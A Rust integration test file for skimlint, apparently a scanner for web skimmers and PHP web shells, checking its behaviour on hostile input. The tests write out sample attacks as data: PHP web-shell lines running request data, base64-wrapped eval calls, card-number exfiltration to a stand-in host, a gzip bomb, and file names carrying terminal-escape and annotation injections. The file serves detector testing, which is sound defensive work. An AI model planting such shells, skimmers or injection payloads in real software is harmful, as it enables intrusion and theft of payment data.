//! Hostile input (project issue 8): whatever a scanned tree holds, skimlint finishes, reports
//! what it could not fully check, keeps every other file's findings, never changes the tree,
//! never uses the network, and never lets file names or content reach the terminal, JSON,
//! SARIF or GitHub annotations raw.
//!
//! Inputs are generated at test time into temporary folders. Each scanned folder also holds a
//! real skimmer (the Magento fixture's `analytics.js`) whose finding must survive. Sizes are
//! real but kept for CI; the 100 MB cases and wall-time/RSS numbers live in
//! `scripts/hostile-bounds.sh` (HOSTILE.md). No test asserts a duration: the 120 s timeout on
//! every run is only a watchdog that turns a hang into a failure.

mod common;
use common::sarif_schema;
use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use assert_cmd::Command;
use base64::Engine as _;
use sha2::{Digest, Sha256};

const WATCHDOG: Duration = Duration::from_secs(120);
const SKIMMER_RULE: &str = "[js/card-data-exfiltration]";

fn skimlint() -> Command {
    let mut c = common::skimlint();
    c.timeout(WATCHDOG);
    c
}

fn skimmer_source() -> Vec<u8> {
    std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/fixtures/magento2-infected/app/design/frontend/Acme/theme/web/js/analytics.js"
    ))
    .unwrap()
}

/// A fresh folder holding the real skimmer as `skimmer.js`.
fn tree() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("skimmer.js"), skimmer_source()).unwrap();
    dir
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

fn scan(dir: &Path, extra: &[&str]) -> Run {
    let out = skimlint()
        .arg("check")
        .arg(dir)
        .args(["--format", "concise"])
        .args(extra)
        .output()
        .expect("skimlint runs");
    Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

impl Run {
    /// Finished (no crash, no watchdog) and the skimmer next to the hostile file was reported.
    fn kept_skimmer(&self) -> &Self {
        assert_eq!(
            self.code,
            Some(1),
            "expected exit 1 (findings)\nstdout:\n{}\nstderr:\n{}",
            self.stdout,
            self.stderr
        );
        assert!(
            self.stdout
                .lines()
                .any(|l| l.starts_with("skimmer.js:") && l.contains(SKIMMER_RULE)),
            "the real skimmer's finding was lost:\n{}\nstderr:\n{}",
            self.stdout,
            self.stderr
        );
        self
    }

    /// A warning for `file` mentioning `what` was printed on stderr.
    fn warned(&self, file: &str, what: &str) -> &Self {
        let prefix = format!("warning: {file}: ");
        assert!(
            self.stderr
                .lines()
                .any(|l| l.starts_with(&prefix) && l.contains(what)),
            "no warning for {file} containing {what:?}; stderr:\n{}",
            self.stderr
        );
        self
    }

    fn finding(&self, file: &str, rule: &str) -> &Self {
        assert!(
            self.stdout
                .lines()
                .any(|l| l.starts_with(&format!("{file}:")) && l.contains(&format!("[{rule}]"))),
            "{rule} not reported in {file}:\n{}\nstderr:\n{}",
            self.stdout,
            self.stderr
        );
        self
    }

    fn no_warning_for(&self, file: &str) -> &Self {
        assert!(
            !self.stderr.contains(&format!("warning: {file}:")),
            "unexpected warning for {file}:\n{}",
            self.stderr
        );
        self
    }
}

fn nest(open: &str, middle: &str, close: &str, n: usize) -> String {
    let mut s = String::with_capacity((open.len() + close.len()) * n + middle.len());
    for _ in 0..n {
        s.push_str(open);
    }
    s.push_str(middle);
    for _ in 0..n {
        s.push_str(close);
    }
    s
}

const MILLION: usize = 1_000_000;

// ---------------------------------------------------------------------------------------------
// 1. Pathological input
// ---------------------------------------------------------------------------------------------

#[test]
fn js_arrays_a_million_levels_deep() {
    let dir = tree();
    let src = format!("var a = {};\n", nest("[", "", "]", MILLION));
    std::fs::write(dir.path().join("deep.js"), src).unwrap();
    // Either the parse budget or the query depth cap is what gives; both are reported.
    scan(dir.path(), &[]).kept_skimmer().warned("deep.js", "");
}

#[test]
fn js_parentheses_a_million_levels_deep() {
    let dir = tree();
    let src = format!("var a = {};\n", nest("(", "1", ")", MILLION));
    std::fs::write(dir.path().join("parens.js"), src).unwrap();
    scan(dir.path(), &[]).kept_skimmer().warned("parens.js", "");
}

#[test]
fn php_arrays_a_million_levels_deep() {
    let dir = tree();
    let src = format!("<?php $a = {};\n", nest("[", "", "]", MILLION));
    std::fs::write(dir.path().join("deep.php"), src).unwrap();
    let src = format!("<?php $a = {};\n", nest("array(", "", ")", MILLION / 4));
    std::fs::write(dir.path().join("deep-array.php"), src).unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .warned("deep.php", "")
        .warned("deep-array.php", "");
}

#[test]
fn html_divs_a_million_levels_deep_still_yield_their_script() {
    let dir = tree();
    let src = nest(
        "<div>",
        "<script>eval(atob(\"YWxlcnQoMSk=\"))</script>",
        "</div>",
        MILLION,
    );
    std::fs::write(dir.path().join("deep.html"), src).unwrap();
    // The markup scanner is linear and does not nest: nothing is skipped, the script is found.
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("deep.html", "js/eval-of-decoded-string")
        .no_warning_for("deep.html");
}

#[test]
fn template_tags_nested_deeply_or_left_open() {
    let dir = tree();
    let script = "<script>eval(atob(\"YWxlcnQoMSk=\"))</script>";
    let src = nest("{% if a %}", script, "{% endif %}", 200_000);
    std::fs::write(dir.path().join("nested.twig"), src).unwrap();
    let src = format!("{}{}", "{{".repeat(MILLION / 2), script);
    std::fs::write(dir.path().join("open.liquid"), src).unwrap();
    let src = format!("{}{}", "{* {$x} {{ y }} ".repeat(100_000), script);
    std::fs::write(dir.path().join("mixed.tpl"), src).unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("nested.twig", "js/eval-of-decoded-string")
        .finding("open.liquid", "js/eval-of-decoded-string")
        .finding("mixed.tpl", "js/eval-of-decoded-string");
}

/// Regressions found while writing this suite: each crashed (stack overflow, which aborts the
/// whole process), exhausted memory or hung before the fix.
#[test]
fn deep_constructs_that_used_to_crash_or_hang() {
    let dir = tree();
    let n = 300_000;
    // PHP `$a[0][0]…` recursed once per subscript in `var_name`: stack overflow. (The request
    // variable keeps the file past the prefilter, which skips files no rule can match.)
    std::fs::write(
        dir.path().join("subscripts.php"),
        format!("<?php $a{} = $_GET['x'];\n", "[0]".repeat(n)),
    )
    .unwrap();
    // `$$$$…$x` and `$GLOBALS[$GLOBALS[…]]` restarted the folding depth at every level.
    std::fs::write(
        dir.path().join("dollars.php"),
        format!("<?php ${}x = 1; echo $a;\n", "$".repeat(n)),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("globals.php"),
        format!("<?php {} = 1;\n", nest("$GLOBALS[", "1", "]", n / 3)),
    )
    .unwrap();
    // `((f)())()…`: callee names restarted the depth too.
    std::fs::write(
        dir.path().join("calls.php"),
        format!("<?php {};\n", nest("(", "f", ")()", n / 3)),
    )
    .unwrap();
    // `a[a[a[…]()]()]()` in JavaScript: member keys ⇄ callee names.
    std::fs::write(
        dir.path().join("calls.js"),
        format!("a{};\n", nest("[a", "", "]()", n / 3)),
    )
    .unwrap();
    // Nested IIFEs had their whole text searched once per level (quadratic, > 10 s).
    std::fs::write(
        dir.path().join("iife.js"),
        nest("(function(){", "a.push(a.shift())", "})()", 100_000),
    )
    .unwrap();
    let run = scan(dir.path(), &[]);
    run.kept_skimmer();
    for f in ["subscripts.php", "dollars.php", "globals.php", "calls.php"] {
        run.warned(f, "");
    }
    assert!(!run.stderr.contains("internal error"), "{}", run.stderr);
}

#[test]
fn data_flow_on_long_chains_stays_small_and_finishes() {
    let dir = tree();
    let read = "var cc = document.getElementById(\"cc_number\").value;\n";
    // One `member_expression` per prefix of `a.b.b.b…`: keeping each prefix's text took memory
    // quadratic in the chain (2.5 GB for this 100 KB line).
    std::fs::write(
        dir.path().join("member.js"),
        format!(
            "{read}var z = a{};\nfetch(\"https://x.example/\", {{body: cc}});\n",
            ".b".repeat(50_000)
        ),
    )
    .unwrap();
    // Assignments chained backwards: the old fixpoint found one per pass (hung for minutes).
    let mut src = String::from(read);
    let n = 50_000;
    for i in (1..=n).rev() {
        src.push_str(&format!("v{i} = v{};\n", i - 1));
    }
    src.push_str(&format!(
        "v0 = cc;\nfetch(\"https://x.example/\", {{body: v{n}}});\n"
    ));
    std::fs::write(dir.path().join("chain.js"), src).unwrap();
    // Calls × same-named functions × parameters: 2 GB for this 100 KB file before the cap.
    std::fs::write(
        dir.path().join("calls.js"),
        format!(
            "{}{read}{}fetch(\"https://x.example/\", {{body: cc}});\n",
            "function f(a, b, c) {}\n".repeat(3000),
            "f(cc, cc, cc);\n".repeat(3000)
        ),
    )
    .unwrap();
    // `a + a + …` copied the growing left side at every operand: a 15 KB file stalled.
    std::fs::write(
        dir.path().join("plus.js"),
        format!(
            "var a = \"{}\";\nvar x = {};\ndocument.write(x);\n",
            "x".repeat(3000),
            vec!["a"; 5000].join("+")
        ),
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("member.js", "js/card-data-exfiltration")
        .finding("chain.js", "js/card-data-exfiltration")
        .finding("calls.js", "js/card-data-exfiltration")
        .warned("calls.js", "data-flow analysis stopped at its size cap");
    // Since folding in context (main, b481745) it costs the whole time budget again (every
    // prefix of the chain folded on its own): bounded and reported, not yet cheap (HOSTILE.md).
}

#[test]
fn a_large_single_line_file_is_scanned_and_an_oversized_one_skipped() {
    let dir = tree();
    // ~4 MB of minified code on one line, the skimmer's loader at its very end.
    let mut line = String::with_capacity(4 << 20);
    let mut i = 0u64;
    while line.len() < 4 << 20 {
        line.push_str(&format!(
            "var v{i}=function(a,b){{return a*{i}+b.length}}(1,\"x{i}\");"
        ));
        i += 1;
    }
    line.push_str("window[\"ev\"+\"al\"](atob(\"YWxlcnQoMSk=\"));");
    std::fs::write(dir.path().join("bundle.min.js"), &line).unwrap();
    // This case is about size, not speed: ~6 s of one idle core against the default 10 s
    // budget left too little headroom on a loaded machine; budgets have tests of their own.
    std::fs::write(
        dir.path().join("skimlint.toml"),
        "[limits]\nfile-timeout-ms = 120000\n",
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("bundle.min.js", "js/eval-of-decoded-string");
    // Over --max-file-size: skipped, and said so.
    scan(dir.path(), &["--max-file-size", "1000000"])
        .kept_skimmer()
        .warned("bundle.min.js", "over the 1000000-byte file size limit");
}

#[test]
fn megabytes_of_base64_are_decoded_and_scanned() {
    let dir = tree();
    let mut payload = String::from("document.write('<p>');");
    while payload.len() < 1 << 20 {
        payload.push_str("var filler = [1, 2, 3].map(function (x) { return x * 2; });\n");
    }
    payload.push_str("var n = document.getElementById('cc_number').value;\n");
    payload.push_str("navigator.sendBeacon('https://x.example/c', n);\n");
    let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
    std::fs::write(
        dir.path().join("blob.js"),
        format!("var s = \"{b64}\";\neval(atob(s));\n"),
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("blob.js", "js/eval-of-decoded-string")
        .finding("blob.js", "js/card-data-exfiltration");
}

#[test]
fn a_payload_built_from_thousands_of_pieces_is_folded_in_both_languages() {
    // Remembering every prefix of the chain used to cost the decoded-bytes cap in JavaScript,
    // so the whole string was lost; both folders now keep checkpoints only.
    let dir = tree();
    let mut payload = String::from("var n = document.getElementById('cc_number').value;\n");
    payload.push_str("navigator.sendBeacon('https://x.example/c', n);\n/*");
    payload.push_str(&"x".repeat(100_000));
    payload.push_str("*/\n");
    let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
    // 64-byte quoted pieces of an encoded payload.
    let quoted = |b: &str| -> Vec<String> {
        b.as_bytes()
            .chunks(64)
            .map(|c| format!("'{}'", String::from_utf8_lossy(c)))
            .collect()
    };
    let pieces = quoted(&b64);
    std::fs::write(
        dir.path().join("pieces.js"),
        format!("var p = {};\neval(atob(p));\n", pieces.join(" + ")),
    )
    .unwrap();
    let php = base64::engine::general_purpose::STANDARD
        .encode(format!("system($_GET['c']); /*{}*/", "x".repeat(100_000)));
    let php_pieces = quoted(&php);
    std::fs::write(
        dir.path().join("pieces.php"),
        format!(
            "<?php\n$p = {};\neval(base64_decode($p));\n",
            php_pieces.join(" . ")
        ),
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("pieces.js", "js/card-data-exfiltration")
        .no_warning_for("pieces.js")
        .finding("pieces.php", "php/eval-of-request-data")
        .no_warning_for("pieces.php");
}
#[test]
fn base64_nested_forty_layers_stops_at_the_layer_cap() {
    let dir = tree();
    let mut code = String::from("eval($_POST['x']);");
    for _ in 0..40 {
        code = format!(
            "eval(base64_decode('{}'));",
            base64::engine::general_purpose::STANDARD.encode(&code)
        );
    }
    std::fs::write(dir.path().join("onion.php"), format!("<?php {code}\n")).unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("onion.php", "php/eval-of-decoded-literal")
        .warned("onion.php", "layer-depth cap");
}

#[test]
fn decoder_calls_nested_ten_thousand_deep() {
    let dir = tree();
    let n = 10_000;
    let php = nest("str_rot13(strrev(", "'riny(1);'", "))", n / 2);
    std::fs::write(dir.path().join("rot.php"), format!("<?php eval({php});\n")).unwrap();
    let js = nest("atob(", "\"YWxlcnQoMSk=\"", ")", n);
    std::fs::write(dir.path().join("atob.js"), format!("eval({js});\n")).unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .warned("rot.php", "folding depth cap")
        .warned("atob.js", "folding depth cap");
}

#[test]
fn gzip_bomb_in_a_php_string_is_capped() {
    let dir = tree();
    // 1 GiB of zeros deflates to about 1 MB.
    let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        enc.write_all(&zeros).unwrap();
    }
    let bomb = base64::engine::general_purpose::STANDARD.encode(enc.finish().unwrap());
    std::fs::write(
        dir.path().join("bomb.php"),
        format!("<?php eval(gzinflate(base64_decode('{bomb}')));\n"),
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .warned("bomb.php", "inflate cap");
}

#[test]
fn invalid_utf8_nul_bytes_crlf_and_boms() {
    let dir = tree();
    let skimmer = skimmer_source();
    // Invalid UTF-8 and NUL bytes around a real skimmer in the same file.
    let mut bytes = b"var junk = \"\xff\xfe\x00\xc3\x28\";\n\x00\x00\n".to_vec();
    bytes.extend_from_slice(&skimmer);
    bytes.extend_from_slice(b"\n// \xed\xa0\x80 \xf4\x90\x80\x80\x00\n");
    std::fs::write(dir.path().join("binaryish.js"), &bytes).unwrap();
    // A UTF-8 BOM and CRLF line endings.
    let mut crlf = b"\xef\xbb\xbf".to_vec();
    crlf.extend_from_slice(
        &String::from_utf8(skimmer)
            .unwrap()
            .replace('\n', "\r\n")
            .into_bytes(),
    );
    std::fs::write(dir.path().join("windows.js"), &crlf).unwrap();
    // NUL bytes in PHP, and a UTF-16 BOM on a template.
    std::fs::write(
        dir.path().join("nul.php"),
        b"<?php\x00 $x = \"\x00\xff\"; eval($_POST['c']); \x00",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("utf16.html"),
        b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
    )
    .unwrap();
    let run = scan(dir.path(), &[]);
    run.kept_skimmer()
        .finding("binaryish.js", "js/card-data-exfiltration")
        .finding("windows.js", "js/card-data-exfiltration")
        .finding("nul.php", "php/eval-of-request-data");
    // Positions in the CRLF file are those of the LF original: CR is not a line break.
    let lf_line = |out: &str, file: &str| {
        out.lines()
            .find(|l| l.starts_with(file) && l.contains(SKIMMER_RULE))
            .map(|l| l.split(':').nth(1).unwrap().to_string())
    };
    assert_eq!(
        lf_line(&run.stdout, "skimmer.js:"),
        lf_line(&run.stdout, "windows.js:")
    );
}

#[test]
fn unterminated_scripts_strings_and_comments() {
    let dir = tree();
    std::fs::write(
        dir.path().join("open-script.html"),
        "<p>hi</p><script>eval(atob(\"YWxlcnQoMSk=\"));\nvar s = \"never closed",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("open-string.js"),
        "var s = \"abc\\\n".repeat(1000),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("open-comment.php"),
        format!("<?php eval($_GET['a']); /* {}", "x".repeat(100_000)),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("open-heredoc.php"),
        "<?php $x = <<<EOT\nnever ends {$y}",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("open-attr.html"),
        "<a onclick='eval(atob(\"YWxlcnQoMSk=\"))",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("open-tags.liquid"),
        "<script>{{ x eval(atob(\"YWxlcnQoMSk=\")) <!-- <style>",
    )
    .unwrap();
    scan(dir.path(), &[])
        .kept_skimmer()
        .finding("open-script.html", "js/eval-of-decoded-string")
        .finding("open-comment.php", "php/eval-of-request-data");
}

#[cfg(unix)]
#[test]
fn symlink_loops_fifos_and_unreadable_files() {
    use std::os::unix::fs::{symlink, PermissionsExt};
    let dir = tree();
    let p = dir.path();
    symlink("loop", p.join("loop")).unwrap();
    std::fs::create_dir(p.join("a")).unwrap();
    symlink("../b", p.join("a/to-b")).unwrap();
    std::fs::create_dir(p.join("b")).unwrap();
    symlink("../a", p.join("b/to-a")).unwrap();
    symlink(p.join("skimmer.js"), p.join("b/link.js")).unwrap();
    symlink("/etc/passwd", p.join("outside.js")).unwrap();
    // A FIFO with no writer: opening it for reading would block forever.
    let fifo = p.join("pipe.js");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
    // An unreadable file and folder.
    let secret = p.join("secret.php");
    std::fs::write(&secret, "<?php eval($_POST['x']);").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o000)).unwrap();
    let closed = p.join("closed");
    std::fs::create_dir(&closed).unwrap();
    std::fs::write(closed.join("x.js"), "eval(1)").unwrap();
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o000)).unwrap();
    let permissions_apply = std::fs::File::open(&secret).is_err();

    let run = scan(p, &[]);
    run.kept_skimmer();
    // Symlinks are never followed: the loop and the link out of the tree are not entered, and
    // the linked skimmer is reported once, under its real name.
    assert!(!run.stdout.contains("b/link.js") && !run.stdout.contains("outside.js"));
    assert!(!run.stdout.contains("pipe.js"));
    let unreadable_reported = |run: &Run| {
        run.kept_skimmer().warned("secret.php", "cannot read");
        assert!(run.stderr.contains("closed"), "{}", run.stderr);
    };
    if permissions_apply {
        unreadable_reported(&run);
    } else {
        // Root reads anything: scan again as an unprivileged user when that is possible.
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
        let bin = assert_cmd::cargo::cargo_bin("skimlint");
        let as_nobody = std::process::Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(&bin)
            .arg("check")
            .arg(p)
            .args(["--format", "concise"])
            .output();
        match as_nobody {
            Ok(out) if out.status.code().is_some_and(|c| c <= 1) => unreadable_reported(&Run {
                code: out.status.code(),
                stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
                stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            }),
            _ => eprintln!(
                "note: running with privileges that ignore file permissions (root) and no \
                 `setpriv` to drop them: the unreadable-file sub-case was skipped"
            ),
        }
    }
    // A FIFO given directly on the command line does not block either.
    skimlint()
        .args(["check", "--format", "concise"])
        .arg(&fifo)
        .assert()
        .code(0);
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o755)).unwrap();
}

// ---------------------------------------------------------------------------------------------
// 2. Guarantees: the tree is unchanged, output is deterministic, no network
// ---------------------------------------------------------------------------------------------

#[derive(Debug, PartialEq, Eq)]
struct Entry {
    kind: &'static str,
    len: u64,
    mode: u32,
    mtime: (i64, i64),
    ctime: (i64, i64),
    sha256: String,
    link: Option<PathBuf>,
}

/// Every entry under `root` (symlinks not followed): type, size, mode, mtime, ctime, content
/// hash, link target.
#[cfg(unix)]
fn manifest(root: &Path) -> BTreeMap<PathBuf, Entry> {
    use std::os::unix::fs::MetadataExt;
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(p) = stack.pop() {
        let meta = std::fs::symlink_metadata(&p).unwrap();
        let ft = meta.file_type();
        let (kind, sha256, link) = if ft.is_dir() {
            for e in std::fs::read_dir(&p).unwrap() {
                stack.push(e.unwrap().path());
            }
            ("dir", String::new(), None)
        } else if ft.is_symlink() {
            (
                "symlink",
                String::new(),
                Some(std::fs::read_link(&p).unwrap()),
            )
        } else if ft.is_file() {
            let bytes = std::fs::read(&p).unwrap();
            ("file", format!("{:x}", Sha256::digest(&bytes)), None)
        } else {
            ("other", String::new(), None)
        };
        out.insert(
            p.strip_prefix(root).unwrap().to_path_buf(),
            Entry {
                kind,
                len: meta.len(),
                mode: meta.mode(),
                mtime: (meta.mtime(), meta.mtime_nsec()),
                ctime: (meta.ctime(), meta.ctime_nsec()),
                sha256,
                link,
            },
        );
    }
    out
}

/// Fixture trees plus hostile files that finish well within every time budget (so that the
/// output cannot depend on machine load).
fn mixed_tree() -> tempfile::TempDir {
    let dir = tree();
    let p = dir.path();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures");
    let mut stack = vec![fixtures.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let path = e.path();
            let rel = path.strip_prefix(&fixtures).unwrap();
            if e.file_type().unwrap().is_dir() {
                std::fs::create_dir_all(p.join(rel)).unwrap();
                stack.push(path);
            } else {
                std::fs::copy(&path, p.join(rel)).unwrap();
            }
        }
    }
    std::fs::write(p.join("nul.php"), b"<?php\x00 eval($_POST['c']); \xff").unwrap();
    std::fs::write(
        p.join("onion.php"),
        "<?php eval(base64_decode('ZXZhbChiYXNlNjRfZGVjb2RlKCdaWFpoYkNna1gxQlBVMVJiSjNnblhTazcnKSk7'));",
    )
    .unwrap();
    std::fs::write(
        p.join("nested.twig"),
        nest(
            "{% if a %}",
            "<script>eval(atob(\"YWxlcnQoMSk=\"))</script>",
            "{% endif %}",
            1000,
        ),
    )
    .unwrap();
    std::fs::write(p.join("big.js"), "var a = 1;\n".repeat(20_000)).unwrap();
    dir
}

#[cfg(unix)]
#[test]
fn the_scanned_tree_is_byte_for_byte_unchanged_even_read_only() {
    use std::os::unix::fs::PermissionsExt;
    let dir = mixed_tree();
    let p = dir.path();
    std::fs::write(p.join(".gitignore"), "ignored/\n").unwrap();
    std::fs::create_dir(p.join("ignored")).unwrap();
    std::fs::write(p.join("ignored/x.js"), "eval(atob('YWxlcnQoMSk='))").unwrap();
    std::os::unix::fs::symlink("skimmer.js", p.join("link.js")).unwrap();
    // A read-only sub-tree.
    let ro = p.join("readonly");
    std::fs::create_dir(&ro).unwrap();
    std::fs::write(ro.join("r.js"), skimmer_source()).unwrap();
    std::fs::set_permissions(ro.join("r.js"), std::fs::Permissions::from_mode(0o444)).unwrap();
    std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o555)).unwrap();
    let before = manifest(p);
    let reports = tempfile::tempdir().unwrap();
    for format in ["full", "concise", "json", "sarif", "github"] {
        let report = reports.path().join(format);
        skimlint()
            .arg("check")
            .arg(p)
            .args(["--format", format, "-o"])
            .arg(&report)
            .assert()
            .code(1);
        // And to standard output, from inside the tree (a relative root).
        skimlint()
            .current_dir(p)
            .args(["check", ".", "--format", format])
            .assert()
            .code(1);
    }
    // The whole tree read-only.
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o555)).unwrap();
    let before_ro = manifest(p);
    skimlint()
        .arg("check")
        .arg(p)
        .args(["--format", "sarif"])
        .assert()
        .code(1);
    assert_eq!(before_ro, manifest(p), "the read-only tree changed");
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut after = manifest(p);
    // chmod of the root itself above changes its ctime; that is this test, not skimlint.
    after.get_mut(Path::new("")).unwrap().ctime = before[Path::new("")].ctime;
    assert_eq!(before, after, "the scanned tree changed");
    std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn output_is_identical_across_runs_and_thread_counts() {
    let dir = mixed_tree();
    for format in ["json", "sarif", "concise", "github"] {
        let run = |threads: Option<&str>| {
            let mut c = skimlint();
            c.arg("check").arg(dir.path()).args(["--format", format]);
            if let Some(t) = threads {
                c.args(["--threads", t]);
            }
            let out = c.output().unwrap();
            assert_eq!(out.status.code(), Some(1));
            (
                String::from_utf8_lossy(&out.stdout).into_owned(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            )
        };
        let default = run(None);
        assert!(!default.0.is_empty());
        assert_eq!(default, run(Some("1")), "{format}: --threads 1 differs");
        assert_eq!(default, run(Some("2")), "{format}: --threads 2 differs");
        assert_eq!(default, run(None), "{format}: a second run differs");
    }
}

#[test]
fn no_network_client_is_linked() {
    let lock = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.lock")).unwrap();
    for client in [
        "reqwest",
        "hyper",
        "ureq",
        "curl",
        "isahc",
        "attohttpc",
        "surf",
        "h2",
        "rustls",
        "openssl",
        "native-tls",
        "tokio",
    ] {
        assert!(
            !lock.contains(&format!("name = \"{client}\"\n")),
            "{client} is in Cargo.lock: skimlint must not be able to talk to the network"
        );
    }
}

/// The scan under `strace`: not a single socket is opened or connected (the real check);
/// else under a network namespace with no interfaces (`unshare -rn`), where it must still
/// work; else skipped, saying so.
#[cfg(target_os = "linux")]
#[test]
fn a_scan_attempts_no_network_access() {
    let dir = mixed_tree();
    let bin = assert_cmd::cargo::cargo_bin("skimlint");
    let log = tempfile::NamedTempFile::new().unwrap();
    let traced = std::process::Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=%network", "-o"])
        .arg(log.path())
        .arg(&bin)
        .arg("check")
        .arg(dir.path())
        .args(["--format", "sarif", "-o", "/dev/null"])
        .output();
    if let Ok(out) = &traced {
        if out.status.code() == Some(1) {
            let calls = std::fs::read_to_string(log.path()).unwrap();
            assert!(
                calls.trim().is_empty(),
                "network system calls during a scan:\n{calls}"
            );
            return;
        }
    }
    let isolated = std::process::Command::new("unshare")
        .args(["-rn"])
        .arg(&bin)
        .arg("check")
        .arg(dir.path())
        .args(["--format", "concise"])
        .output();
    match isolated {
        Ok(out) if out.status.code() == Some(1) => {
            assert!(String::from_utf8_lossy(&out.stdout).contains(SKIMMER_RULE));
        }
        _ => eprintln!(
            "note: neither strace nor unshare -rn is usable here: the network check was skipped \
             (no_network_client_is_linked still holds)"
        ),
    }
}

// ---------------------------------------------------------------------------------------------
// 3. Untrusted text is neutralised in every output
// ---------------------------------------------------------------------------------------------

#[cfg(unix)]
fn hostile_names() -> Vec<std::ffi::OsString> {
    use std::os::unix::ffi::OsStringExt;
    let mut names: Vec<std::ffi::OsString> = [
        "red\x1b[31mALERT\x1b[0m.js",
        "title\x1b]0;pwned\x07.js",
        "comma,colon:name.js",
        "new\nline.js",
        "cr\rreturn.js",
        "::error::pwned.js",
        "x::error file=a.js,line=1::injected.js",
        "percent%0A%3A.js",
        "c1\u{9b}2J.js",
        "bidi\u{202e}sj.js",
        "tab\tand space .js",
    ]
    .iter()
    .map(|s| s.into())
    .collect();
    names.push(std::ffi::OsString::from_vec(b"bad\xff\xfeutf8.js".to_vec()));
    names
}

/// Content whose finding line and decoded payload carry escapes too.
fn hostile_content() -> Vec<u8> {
    let mut s = skimmer_source();
    s.extend_from_slice(
        "\n/* \x1b[2J\x1b]8;;https://evil.example\x07 \u{9b}31m */ eval(atob(\"G1syShtdMDtwd25lZAc=\")); // \r::error::x\n"
            .as_bytes(),
    );
    s
}

#[cfg(unix)]
#[test]
fn file_names_and_content_cannot_reach_outputs_raw() {
    let dir = tempfile::tempdir().unwrap();
    let names = hostile_names();
    for n in &names {
        std::fs::write(dir.path().join(n), hostile_content()).unwrap();
    }
    // An oversized file with a hostile name: its problem report goes through the same paths.
    std::fs::write(
        dir.path().join("big\x1b[2J\n::warning::x.js"),
        "var a = 1;\n".repeat(20_000),
    )
    .unwrap();
    let get = |format: &str| {
        let out = skimlint()
            .arg("check")
            .arg(dir.path())
            .args(["--format", format, "--max-file-size", "100000"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{format}");
        (
            out.stdout,
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (json, _) = get("json");
    let doc: serde_json::Value = serde_json::from_slice(&json).expect("JSON is valid");
    let findings = doc["findings"].as_array().unwrap();
    let problems = doc["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 1, "{problems:?}");
    for n in &names {
        let shown = n.to_string_lossy();
        assert!(
            findings
                .iter()
                .any(|f| f["location"]["path"] == *shown
                    && f["rule_id"] == "js/card-data-exfiltration"),
            "no finding for {shown:?} (JSON keeps the exact name)"
        );
    }
    let raw_control = |text: &str| {
        text.chars()
            .find(|&c| c.is_control() && c != '\n')
            .map(|c| format!("{:?}", c))
    };
    for format in ["concise", "full"] {
        let (out, stderr) = get(format);
        let text = String::from_utf8(out).expect("UTF-8 output");
        assert_eq!(
            raw_control(&text),
            None,
            "{format} output has a raw control:\n{text}"
        );
        assert_eq!(
            raw_control(&stderr),
            None,
            "{format} stderr has a raw control"
        );
        assert!(
            !text.contains("\u{202e}"),
            "{format}: bidi override reached the terminal"
        );
    }
    // Concise: one line per finding (a newline in a name cannot add one).
    let (out, stderr) = get("concise");
    assert_eq!(
        String::from_utf8(out).unwrap().lines().count(),
        findings.len()
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    // GitHub: one workflow command per finding and problem, each of the right shape, up to
    // GitHub's cap of 10 per level in a step; the rest are plain `skimlint: ` lines (after one
